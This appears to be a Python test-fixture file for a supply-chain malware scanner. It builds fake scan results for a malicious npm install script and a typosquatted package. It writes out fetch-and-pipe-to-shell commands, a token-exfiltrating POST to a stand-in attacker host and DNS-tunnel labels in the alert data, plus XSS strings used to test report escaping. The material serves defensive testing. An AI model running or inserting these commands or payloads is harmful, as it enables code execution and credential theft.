"""Hand-built scan results for the report tests.

They read like real scans of a small npm project: a direct dependency whose install script fetches
a second stage and sends the planted npm token to its server, a typosquatted transitive dependency
that tunnels data through DNS and spawns a shell on import, a clean package, and one process that
could not be attributed. Addresses are from the documentation ranges (RFC 5737); nothing here is
ever contacted.
"""

from __future__ import annotations

from tracehound.scan.result import (
    Alert,
    Connection,
    Counters,
    DnsQuery,
    Evidence,
    HoneytokenHit,
    PackageId,
    PackageResult,
    PhaseResult,
    ProjectResult,
    ScanResult,
    Survivor,
)

EVIL = PackageId(name="evil-postinstall", version="1.0.3", ecosystem="npm")
TYPO = PackageId(name="lodahs", version="4.17.21", ecosystem="npm")
LEFTPAD = PackageId(name="left-pad", version="1.3.0", ecosystem="npm")

SANDBOX = {"container.id": "th-0f8e4c2a", "container.name": "tracehound-0f8e4c2a"}


def _alerts() -> list[Alert]:
    a1 = Alert(
        rule="Unexpected outbound connection destination",
        priority="Notice",
        output=(
            "10:00:20.123456789: Notice Disallowed outbound connection destination "
            "(command=wget -qO- https://evil.example.com/x.sh connection=10.200.0.2:54865->203.0.113.7:443 "
            "user=root container_id=th-0f8e4c2a container_name=tracehound-0f8e4c2a)"
        ),
        output_fields={
            **SANDBOX,
            "proc.cmdline": "wget -qO- https://evil.example.com/x.sh",
            "fd.name": "10.200.0.2:54865->203.0.113.7:443",
            "user.name": "root",
            "evt.time": 1795687220123456789,
            "proc.pid": 3104,
        },
        tags=["network", "mitre_command_and_control", "T1105"],
        time="2026-11-26T10:00:20.123456789Z",
        hostname="builder-7",
        package=EVIL,
        phase="install",
        evidence=Evidence(
            command="wget -qO- https://evil.example.com/x.sh",
            process_tree=[
                "wget -qO- https://evil.example.com/x.sh",
                "sh -c wget -qO- https://evil.example.com/x.sh | sh",
                "npm rebuild --foreground-scripts",
            ],
            destination="evil.example.com (203.0.113.7:443)",
            attribution="npm_package_name of the parent script",
        ),
    )
    a6 = Alert(
        rule="Unexpected outbound connection destination",
        priority="Notice",
        output=(
            "10:00:20.800000000: Notice Disallowed outbound connection destination "
            "(command=curl -s https://evil.example.com/y connection=10.200.0.2:54870->203.0.113.7:443 "
            "user=root container_id=th-0f8e4c2a container_name=tracehound-0f8e4c2a)"
        ),
        output_fields={
            **SANDBOX,
            "proc.cmdline": "curl -s https://evil.example.com/y",
            "fd.name": "10.200.0.2:54870->203.0.113.7:443",
            "user.name": "root",
            "evt.time": 1795687220800000000,
            "proc.pid": 3106,
        },
        tags=["network", "mitre_command_and_control", "T1105"],
        time="2026-11-26T10:00:20.800000000Z",
        hostname="builder-7",
        package=EVIL,
        phase="install",
        evidence=Evidence(
            command="curl -s https://evil.example.com/y",
            process_tree=["curl -s https://evil.example.com/y", "sh -c wget -qO- https://evil.example.com/x.sh | sh"],
            destination="evil.example.com (203.0.113.7:443)",
        ),
    )
    a2 = Alert(
        rule="Honeytoken exfiltrated",
        priority="Critical",
        output=(
            "10:00:21.500000000: Critical Planted secret sent to the network "
            "(token=npm_token dest=evil.example.com:443 command=node collect.js)"
        ),
        output_fields={"proc.cmdline": "node collect.js", "fd.sip.name": "evil.example.com", "proc.pid": 3110,
                       "container.id": "th-0f8e4c2a"},
        tags=["honeytoken", "mitre_credential_access", "mitre_exfiltration", "T1552", "T1041"],
        time="2026-11-26T10:00:21.500000000Z",
        hostname="builder-7",
        package=EVIL,
        phase="install",
        evidence=Evidence(
            command="node collect.js",
            process_tree=["node collect.js", "sh -c node collect.js", "npm rebuild --foreground-scripts"],
            file="/home/tracehound/.npmrc",
            destination="evil.example.com:443",
            payload_excerpt="POST /c HTTP/1.1\r\nHost: evil.example.com\r\n\r\ntok=bnBtX1RPS0VO",
            honeytoken="npm_token",
        ),
    )
    a3 = Alert(
        rule="DNS query with encoded data",
        priority="Warning",
        output=(
            "10:00:47.000000001: Warning Long encoded label in DNS query "
            "(query=aGVsbG8td29ybGQ.x7f3.exfil.example command=node /opt/tracehound/node_import.js)"
        ),
        output_fields={"proc.cmdline": "node /opt/tracehound/node_import.js", "evt.time": 1795687247000000001,
                       "pkg.name": "lodahs"},
        tags=["network", "dns", "mitre_exfiltration", "T1048"],
        time="2026-11-26T10:00:47.000000001Z",
        hostname="builder-7",
        package=TYPO,
        phase="import",
        evidence=Evidence(
            command="node /opt/tracehound/node_import.js",
            destination="aGVsbG8td29ybGQ.x7f3.exfil.example (DNS TXT)",
            attribution="import driver",
        ),
    )
    a4 = Alert(
        rule="Launch shell from package code",
        priority="Error",
        output=(
            "10:00:48.250000000: Error Shell spawned by package code "
            "(command=sh -c curl -s http://203.0.113.9/p | sh parent=node)"
        ),
        output_fields={"proc.cmdline": "sh -c curl -s http://203.0.113.9/p | sh", "proc.pname": "node",
                       "proc.pid": 4201, "evt.time": 1795687248250000000, "user.name": "tracehound"},
        tags=["process", "shell", "mitre_execution", "T1059"],
        time="2026-11-26T10:00:48.250000000Z",
        hostname="builder-7",
        package=TYPO,
        phase="import",
        evidence=Evidence(
            command="sh -c curl -s http://203.0.113.9/p | sh",
            process_tree=["sh -c curl -s http://203.0.113.9/p | sh", "node /opt/tracehound/node_import.js"],
        ),
    )
    a5 = Alert(
        rule="Process survived phase end",
        priority="Informational",
        output=(
            "10:00:52.000000000: Informational Process still running after the phase ended "
            "(command=node -e setInterval(beacon,1000))"
        ),
        output_fields={"proc.cmdline": "node -e setInterval(beacon,1000)", "proc.pid": 4242},
        tags=[],
        time="2026-11-26T10:00:52.000000000Z",
        hostname="builder-7",
        package=None,
        phase="import",
        evidence=Evidence(command="node -e setInterval(beacon,1000)"),
    )
    return [a1, a6, a2, a3, a4, a5]


def _phases(malicious: bool = True) -> list[PhaseResult]:
    fetch = PhaseResult(
        name="fetch", project="npm:package.json", command=["npm", "ci", "--ignore-scripts"], network="registry",
        started_at="2026-11-26T10:00:01.000000000Z", duration_s=9.0, exit_code=0, events=5120,
    )
    install = PhaseResult(
        name="install", project="npm:package.json", command=["npm", "rebuild", "--foreground-scripts"],
        network="sinkhole", started_at="2026-11-26T10:00:12.000000000Z", duration_s=30.5, exit_code=0,
        events=10234,
        stdout_tail="> evil-postinstall@1.0.3 postinstall\n> node install.js\n",
        process_tree=[{
            "pid": 3001, "cmd": "npm rebuild --foreground-scripts", "package": None,
            "children": [
                {"pid": 3100, "cmd": "sh -c wget -qO- https://evil.example.com/x.sh | sh",
                 "package": EVIL.model_dump(), "children": [
                     {"pid": 3104, "cmd": "wget -qO- https://evil.example.com/x.sh", "package": EVIL.model_dump(),
                      "children": []},
                     {"pid": 3106, "cmd": "curl -s https://evil.example.com/y", "package": EVIL.model_dump(),
                      "children": []},
                 ]},
                {"pid": 3108, "cmd": "sh -c node collect.js", "package": EVIL.model_dump(), "children": [
                    {"pid": 3110, "cmd": "node collect.js", "package": EVIL.model_dump(), "children": []},
                ]},
                {"pid": 3120, "cmd": "sh -c node-gyp rebuild", "package": LEFTPAD.model_dump(), "children": []},
            ],
        }] if malicious else [],
    )
    imp = PhaseResult(
        name="import", project="npm:package.json", command=["node", "/opt/tracehound/node_import.js"],
        network="sinkhole", started_at="2026-11-26T10:00:45.000000000Z", duration_s=15.25, exit_code=0,
        events=2880, unparsable=2 if malicious else 0,
        survivors=[Survivor(pid=4242, command="node -e setInterval(beacon,1000)", phase="import")] if malicious else [],
        process_tree=[{
            "pid": 4100, "cmd": "node /opt/tracehound/node_import.js", "package": None,
            "children": [
                {"pid": 4201, "cmd": "sh -c curl -s http://203.0.113.9/p | sh", "package": TYPO.model_dump(),
                 "children": []},
                {"pid": 4242, "cmd": "node -e setInterval(beacon,1000)", "package": None, "children": []},
            ] if malicious else [],
        }],
    )
    return [fetch, install, imp]


def findings_result() -> ScanResult:
    a1, a6, a2, a3, a4, a5 = _alerts()
    return ScanResult(
        id="0f8e4c2a-5b1d-4e7a-9c3f-2a6b8d1e4f70",
        target="examples/shop-frontend",
        target_kind="directory",
        status="completed",
        verdict="findings",
        reasons=[],
        fail_on="Warning",
        started_at="2026-11-26T10:00:00.000000000Z",
        finished_at="2026-11-26T10:01:05.500000000Z",
        duration_s=65.5,
        backend="ptrace",
        tool_versions={"tracehound": "0.1.0", "node": "v18.19.0", "npm": "9.2.0", "bwrap": "0.8.0",
                       "strace": "6.1"},
        ruleset={
            "files": ["rules/supply_chain.yaml"],
            "sha256": "9f2c4e1b7a8d3f60c5b2e9a1d4f7c3b8e6a2d9f1c4b7e0a3d6f9c2b5e8a1d4f7",
            "rules": 24,
            "descriptions": {"Honeytoken exfiltrated": "A planted credential left the sandbox."},
        },
        projects=[ProjectResult(ecosystem="npm", manifest="package.json", lockfile="package-lock.json", packages=3)],
        phases=_phases(),
        packages=[
            PackageResult(package=EVIL, direct=True, verdict="findings", alerts=[a1, a6, a2],
                          manifest="package-lock.json", manifest_line=42),
            PackageResult(package=TYPO, direct=False, verdict="findings", alerts=[a3, a4]),
            PackageResult(package=LEFTPAD, direct=True, verdict="clean", manifest="package-lock.json",
                          manifest_line=63),
        ],
        alerts=[a1, a6, a2, a3, a4, a5],
        unattributed_alerts=1,
        dns=[
            DnsQuery(time="2026-11-26T10:00:20.050000000Z", name="evil.example.com", qtype="A", answer="10.200.0.1",
                     phase="install", package=EVIL),
            DnsQuery(time="2026-11-26T10:00:47.000000000Z", name="aGVsbG8td29ybGQ.x7f3.exfil.example",
                     qtype="TXT", phase="import", package=TYPO),
        ],
        connections=[
            Connection(time="2026-11-26T10:00:03.000000000Z", protocol="http-proxy", hostname="registry.npmjs.org",
                       destination_port=443, allowed=True, request_line="CONNECT registry.npmjs.org:443 HTTP/1.1",
                       phase="fetch"),
            Connection(time="2026-11-26T10:00:20.123000000Z", protocol="tcp", destination_ip="203.0.113.7",
                       destination_port=443, hostname="evil.example.com", tls_sni="evil.example.com",
                       payload_excerpt="....(..evil.example.com", payload_bytes=517, phase="install",
                       package=EVIL),
            Connection(time="2026-11-26T10:00:21.500000000Z", protocol="tcp", destination_ip="203.0.113.7",
                       destination_port=443, hostname="evil.example.com", request_line="POST /c HTTP/1.1",
                       payload_excerpt="POST /c HTTP/1.1\r\nHost: evil.example.com\r\n\r\ntok=bnBtX1RPS0VO",
                       payload_bytes=64, phase="install", package=EVIL),
        ],
        honeytoken_hits=[
            HoneytokenHit(time="2026-11-26T10:00:21.500000000Z", token_kind="npm_token",
                          planted_in="/home/tracehound/.npmrc", found_in="tcp", encoding="base64",
                          destination="evil.example.com:443", excerpt="tok=bnBtX1RPS0VO", phase="install",
                          package=EVIL),
        ],
        counters=Counters(events=18234, events_dropped=0, unparsable=2, alerts=6),
    )


def clean_result() -> ScanResult:
    return ScanResult(
        id="1a2b3c4d-0000-4000-8000-00000000c1ea",
        target="left-pad@1.3.0",
        target_kind="package",
        status="completed",
        verdict="clean",
        fail_on="Warning",
        started_at="2026-11-26T10:00:00.000000000Z",
        finished_at="2026-11-26T10:01:00.500000000Z",
        duration_s=60.5,
        backend="ebpf",
        tool_versions={"tracehound": "0.1.0", "npm": "9.2.0"},
        ruleset={"files": ["rules/supply_chain.yaml"], "sha256": "9f2c4e1b", "rules": 24},
        projects=[ProjectResult(ecosystem="npm", manifest="package.json", lockfile="package-lock.json", packages=1)],
        phases=_phases(malicious=False),
        packages=[PackageResult(package=LEFTPAD, direct=True, verdict="clean", manifest="package-lock.json",
                                manifest_line=7)],
        counters=Counters(events=18234),
    )


def inconclusive_result() -> ScanResult:
    slow = PackageId(name="slow-build", version="2.0.0", ecosystem="npm")
    install = PhaseResult(
        name="install", project="npm:package.json", command=["npm", "rebuild", "--foreground-scripts"],
        network="sinkhole", started_at="2026-11-26T08:00:05.000000000Z", duration_s=600.0, exit_code=None,
        timed_out=True, events=90210, events_dropped=312, ok=False, problem="timed out after 600 s",
        survivors=[Survivor(pid=5150, command="node build.js --forever", phase="install")],
        process_tree=[{"pid": 5100, "cmd": "npm rebuild --foreground-scripts", "children": [
            {"pid": 5150, "cmd": "node build.js --forever", "package": slow.model_dump(), "children": []}]}],
    )
    return ScanResult(
        id="77777777-aaaa-4bbb-8ccc-dddddddddddd",
        target="slow-build-2.0.0.tgz",
        target_kind="archive",
        status="completed",
        verdict="inconclusive",
        reasons=["install phase timed out after 600 s",
                 "312 events were lost during install (capture buffer overflow)"],
        fail_on="Warning",
        started_at="2026-11-26T08:00:00.000000000Z",
        finished_at="2026-11-26T08:10:06.000000000Z",
        duration_s=606.0,
        backend="ebpf",
        tool_versions={"tracehound": "0.1.0"},
        ruleset={"files": ["rules/supply_chain.yaml"], "sha256": "9f2c4e1b", "rules": 24},
        projects=[ProjectResult(ecosystem="npm", manifest="package.json", lockfile=None, packages=1)],
        phases=[install],
        packages=[PackageResult(package=slow, direct=True, verdict="inconclusive")],
        counters=Counters(events=90210, events_dropped=312),
    )


# Strings that would run or inject markup if a report ever emitted them raw.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "](javascript:alert(4)) [x](https://attacker.example/)",
]


def hostile_result() -> ScanResult:
    """The findings result with attacker-controlled text in every string a package can influence."""
    s1, s2, s3, s4 = PAYLOADS
    r = findings_result().model_copy(deep=True)
    r.target = f"shop{s1}"
    evil = PackageId(name=f"evil{s2}", version=f"1.0{s3}", ecosystem="npm")
    for pr in r.packages[:1]:
        pr.package = evil
        pr.manifest = f"package-lock{s4}.json"
    for a in r.alerts:
        if a.package is not None and a.package.name == "evil-postinstall":
            a.package = evil
        a.rule = a.rule + s1
        a.output = a.output + s2
        a.hostname = "host" + s3
        a.output_fields = {**a.output_fields, f"proc.env[{s1}]": s2, "proc.cmdline": s4}
        a.evidence.command = f"{a.evidence.command} {s1}"
        a.evidence.process_tree = [c + s2 for c in a.evidence.process_tree]
        a.evidence.payload_excerpt = s1 + s2
        a.evidence.destination = s3
    r.packages[0].alerts = [a for a in r.alerts if a.package == evil]
    r.packages[1].alerts = [a for a in r.alerts if a.package is not None and a.package.name == "lodahs"]
    r.reasons = [f"note {s1}"]
    r.dns[0].name = s2
    r.connections[1].payload_excerpt = s1 + s4
    r.connections[2].request_line = s2
    r.honeytoken_hits[0].excerpt = s1
    r.phases[1].stdout_tail = s1
    r.phases[1].process_tree[0]["children"][0]["cmd"] = s2
    r.tool_versions[s1] = s2
    r.ruleset["files"] = [s3]
    return r
